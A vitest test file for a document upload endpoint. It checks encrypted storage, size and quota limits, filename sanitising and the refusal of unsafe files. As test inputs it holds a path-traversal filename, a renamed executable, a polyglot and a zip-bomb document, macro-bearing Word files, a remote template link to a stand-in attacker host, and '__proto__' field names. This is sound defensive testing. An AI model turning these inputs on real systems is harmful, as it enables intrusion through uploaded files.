/** Document uploads: what is accepted, what is refused, and that refused files leave nothing behind. */
import { createHash, randomBytes } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
import { en } from '#locales/texts.ts'
import { fileLimits } from '#schemas/platform/files.ts'
import { jpeg, png } from '#tests/identity/pictures/files.ts'
import { openProduct, type Product } from '#tests/support/product.ts'
import { doc, docx, pdf, wordParts } from './documents.ts'
import { practiceIn, storedIn } from './practice.ts'

let product: Product
let practice: Awaited<ReturnType<typeof practiceIn>>
let before: string[]
beforeAll(async () => {
  product = await openProduct()
})
beforeEach(async () => {
  practice = await practiceIn(product)
  before = await storedIn(product)
})
afterAll(() => product.close())

async function expectNoFiles(): Promise<void> {
  expect(await storedIn(product)).toEqual(before)
  expect(await practice.rows()).toEqual([])
}

const sha256 = (content: Buffer) => createHash('sha256').update(content).digest()

test('a file is encrypted in the storage under a name that reveals nothing, and its row has its metadata', async () => {
  const content = Buffer.concat([pdf(200_000), Buffer.from('%planted words\n%%EOF')])
  const answer = await practice.insure({ name: 'Clara Müller’s policy.pdf', content })
  expect([answer.status, answer.body.data]).toEqual([201, [expect.objectContaining({ scanStatus: 'not_scanned' })]])
  const [row] = await practice.rows()
  expect(row).toMatchObject({
    name: 'Clara Müller’s policy.pdf',
    contentType: 'application/pdf',
    bytes: content.length,
    sha256: sha256(content),
    scanStatus: 'not_scanned',
  })
  const stored = (await storedIn(product)).filter((name) => !before.includes(name))
  expect(stored).toEqual([row?.storageKey])
  const key = row?.storageKey as string
  const sealed = await readFile(join(product.filesFolder, key.slice(0, 2), key))
  expect(sealed.includes('planted')).toBe(false)
})

test('a file of the maximum size is returned byte for byte', async () => {
  const content = pdf(fileLimits.maxBytes)
  const { status, body } = await practice.insure({ name: 'long.pdf', content })
  expect(status).toBe(201)
  const file = await practice.download(body.data[0].identifier)
  expect([file.status, sha256(file.bytes).equals(sha256(content))]).toEqual([200, true])
})

test('all kinds in one form, in their order, before and after the fields, under either name of the field', async () => {
  const files = {
    'a.pdf': pdf(),
    'b.PNG': await png(),
    'c.jpg': await jpeg(),
    'd.doc': doc('WordDocument'),
    'e.docx': await docx(),
  }
  const parts = Object.entries(files).map(([name, content]) => ({ field: 'files', name, content }))
  const answer = await practice.qualify(
    ...parts.slice(0, 2),
    { field: 'type', content: 'license' },
    { field: 'body', content: 'Board' },
    ...parts.slice(2).map((part) => ({ ...part, field: 'filesLicense' })),
    { field: 'credentialNumber', content: 'A/1-b' },
    { field: 'title', content: '  ' },
    { field: 'files', name: '', content: '' },
  )
  expect(answer.status).toBe(201)
  expect(answer.body.data.map(({ fileName }: { fileName: string }) => fileName).toSorted()).toEqual(Object.keys(files))
  expect(answer.body.data[0]).toMatchObject({ body: 'Board', credentialNumber: 'A/1-b', title: null })
})

test('only the last part of a name is stored, with its extension when the name is long', async () => {
  const names = ['C:\\Users\\clara\\one.pdf', '../../etc/tw\x07o.pdf', `${'ü'.repeat(400)}.pdf`]
  for (const name of names) expect((await practice.insure({ name, content: pdf() })).status).toBe(201)
  expect((await practice.rows()).map(({ name }) => name)).toEqual(['one.pdf', 'two.pdf', `${'ü'.repeat(125)}.pdf`])
})

describe('refused without leaving anything behind', () => {
  afterEach(expectNoFiles)

  test('one byte too many', async () => {
    const { status, body } = await practice.insure({ name: 'a.pdf', content: pdf(fileLimits.maxBytes + 1) })
    expect([status, body]).toEqual([
      413,
      expect.objectContaining({
        code: 'FILE_TOO_LARGE',
        message: 'File too large',
        errors: ['File too large'],
        fields: { file: 'File too large' },
      }),
    ])
  })

  test('far too many bytes, judged by the announced length', async () => {
    const headers = { 'content-type': 'multipart/form-data; boundary=b', 'content-length': '104923137' }
    const { status, body } = await practice.caller.post('/provider/indemnity-insurance', Buffer.from('x'), headers)
    expect([status, body.code, body.fields]).toEqual([413, 'FILE_TOO_LARGE', { file: 'File too large' }])
  })

  const program = Buffer.concat([Buffer.from('MZ'), randomBytes(5_000)])
  test.for<[what: string, name: string, content: () => Buffer | Promise<Buffer>]>([
    ['an unsupported extension', 'a.exe', () => program],
    ['no extension', 'a', pdf],
    ['a renamed program', 'a.pdf', () => program],
    ['a picture that is called a document', 'a.pdf', png],
    ['a PDF that is an archive as well', 'a.pdf', async () => Buffer.concat([pdf(), await docx()])],
    [
      'a document that unpacks to too much',
      'a.docx',
      () => docx({ ...wordParts, big: Buffer.alloc(fileLimits.zipBytes) }),
    ],
    ['a file of three bytes', 'a.jpg', () => Buffer.of(0xff, 0xd8, 0xff)],
  ])('%s', async ([, name, content]) => {
    const { status, body } = await practice.insure({ name, content: await content() })
    const sentence = 'Please upload a doc, docx, pdf, jpg, jpeg or png file.'
    expect([status, body.code, body.message, body.fields]).toEqual([415, 'FILE_TYPE', sentence, { file: sentence }])
  })

  test.for<[what: string, name: string, content: () => Buffer | Promise<Buffer>]>([
    ['macros', 'a.docx', () => docx({ ...wordParts, 'word/vbaProject.bin': 'x' })],
    ['an embedded file', 'a.docx', () => docx({ ...wordParts, 'word/embeddings/a.bin': 'x' })],
    [
      'an external template',
      'a.docx',
      () =>
        docx({
          ...wordParts,
          'word/_rels/settings.xml.rels':
            '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
        }),
    ],
    ['a document type', 'a.docx', () => docx({ ...wordParts, 'word/styles.xml': '<!DOCTYPE a><a/>' })],
    ['macros of the old format', 'a.doc', () => doc('WordDocument', 'Macros')],
  ])('a Word document with %s, with a message that names the cause', async ([, name, content]) => {
    const { status, body } = await practice.insure({ name, content: await content() })
    expect([status, body.code, body.message]).toEqual([415, 'FILE_TYPE', en.files.active_refused])
    expect(body.fields).toEqual({ file: en.files.active_refused })
  })

  test('a valid file beside an invalid one', async () => {
    const good = { name: 'a.pdf', content: pdf(100_000) }
    expect((await practice.insure(good, good, { name: 'b.pdf', content: 'none' })).status).toBe(415)
  })

  test('more files than one form may have', async () => {
    const parts = Array.from({ length: fileLimits.filesAtOnce + 1 }, () => ({ name: 'a.pdf', content: pdf() }))
    const { status, body } = await practice.insure(...parts)
    expect([status, body.fields]).toEqual([422, { file: 'Please choose at most 10 files.' }])
  })

  test.for<[what: string, parts: { field?: string; name?: string; content: string | Buffer }[], fields: object]>([
    ['no file', [], { file: 'Please choose a file.' }],
    ['an empty file', [{ name: 'a.pdf', content: '' }], { file: 'Please choose a file.' }],
    ['a file in another field', [{ field: 'other', name: 'a.pdf', content: pdf() }], { other: expect.any(String) }],
    [
      'a text in another field',
      [
        { name: 'a.pdf', content: pdf() },
        { field: 'other', content: 'x' },
      ],
      { other: expect.any(String) },
    ],
    [
      'a field twice',
      [
        { field: 'issuedAt', content: '2025-01-01' },
        { field: 'issuedAt', content: '2025-01-01' },
        { name: 'a.pdf', content: pdf() },
      ],
      { issuedAt: expect.any(String) },
    ],
    [
      'an invalid field',
      [
        { name: 'a.pdf', content: pdf() },
        { field: 'issuedAt', content: 'soon' },
      ],
      { issuedAt: expect.any(String) },
    ],
    ['a text in place of a file', [{ field: 'file', content: 'x' }], { file: expect.any(String) }],
  ])('%s', async ([, parts, fields]) => {
    const { status, body } = await practice.insure(...parts)
    expect([status, body.code, body.fields]).toEqual([422, 'VALIDATION_ERROR', fields])
  })

  test('a broken form', async () => {
    const headers = { 'content-type': 'multipart/form-data; boundary=b' }
    for (const body of [
      '',
      'nothing',
      '--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.7 ever',
    ])
      expect(
        (await practice.caller.post('/provider/indemnity-insurance', Buffer.from(body), headers)).status,
      ).toBeOneOf([400, 422])
  })

  test('field names with a meaning in JavaScript', async () => {
    for (const field of ['__proto__', 'constructor', 'toString']) {
      const answers = [
        await practice.insure({ name: 'a.pdf', content: pdf() }, { field, content: 'x' }),
        await practice.insure({ field, name: 'a.pdf', content: pdf() }),
      ]
      for (const { status } of answers) expect(status).toBeOneOf([400, 422])
    }
  })
})

describe('the storage quota of a user', () => {
  const storeFiles = async (count: number, bytes: number) => {
    const rows = Array.from({ length: count }, () => ({
      identifier: crypto.randomUUID(),
      ownerIdentifier: practice.therapist.identifier,
      storageKey: crypto.randomUUID(),
      sealedKey: Buffer.alloc(1),
      name: 'kept.pdf',
      contentType: 'application/pdf',
      bytes,
      sha256: Buffer.alloc(32),
      scanStatus: 'not_scanned' as const,
      scannedAt: null,
      createdAt: product.clock.now().toString(),
    }))
    await product.database.db.insertInto('storedFile').values(rows).execute()
  }
  const one = { name: 'a.pdf', content: pdf(1_000) }

  test('the number of files, also when several arrive at once', async () => {
    await storeFiles(fileLimits.filesPerPerson - 1, 1)
    const refusals = await practice.insure(one, one)
    expect([refusals.status, refusals.body.code]).toEqual([409, 'FILE_QUOTA'])
    expect((await practice.insure(one)).status).toBe(201)
    expect((await practice.insure(one)).status).toBe(409)
    expect((await storedIn(product)).length).toBe(before.length + 1)
  })

  test('the number of bytes', async () => {
    await storeFiles(1, fileLimits.bytesPerPerson - 1_000)
    expect((await practice.insure({ name: 'a.pdf', content: pdf(1_001) })).body.code).toBe('FILE_QUOTA')
    expect((await practice.insure(one)).status).toBe(201)
    expect((await storedIn(product)).length).toBe(before.length + 1)
  })
})

test('without storage, the file gets a retryable error and other calls continue', async () => {
  vi.spyOn(product.backend.services.files, 'put').mockRejectedValueOnce(new Error('the disk is full'))
  const { status, body, headers } = await practice.insure({ name: 'a.pdf', content: pdf() })
  expect([status, body.code, headers['retry-after']]).toEqual([503, 'BUSY', '10'])
  vi.spyOn(product.backend.services.files, 'open').mockRejectedValueOnce(new Error('the disk is broken'))
  expect((await practice.insure({ name: 'a.png', content: await png() })).body.code).toBe('BUSY')
  expect(await practice.rows()).toEqual([])
  expect((await practice.insure({ name: 'a.pdf', content: pdf() })).status).toBe(201)
})
